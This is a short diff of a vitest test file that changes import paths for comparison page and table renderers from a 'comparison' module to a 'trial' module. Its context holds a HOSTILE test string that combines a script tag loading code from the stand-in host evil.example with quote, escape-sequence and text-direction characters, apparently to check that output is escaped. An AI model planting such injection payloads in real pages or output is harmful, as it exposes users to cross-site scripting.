@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest';
-import { comparisonPage } from '../../src/cli/comparison/page.ts';
-import { comparisonLines } from '../../src/cli/comparison/table.ts';
-import type { Comparison, ModeResult } from '../../src/comparison/index.ts';
+import { comparisonPage } from '../../src/cli/trial/page.ts';
+import { comparisonLines } from '../../src/cli/trial/table.ts';
+import type { Comparison, ModeResult } from '../../src/trial/index.ts';
 
 const HOSTILE = `</td><script src="http://evil.example/x.js"></script>'"&amp;\u001b[2J\u202e`;
 
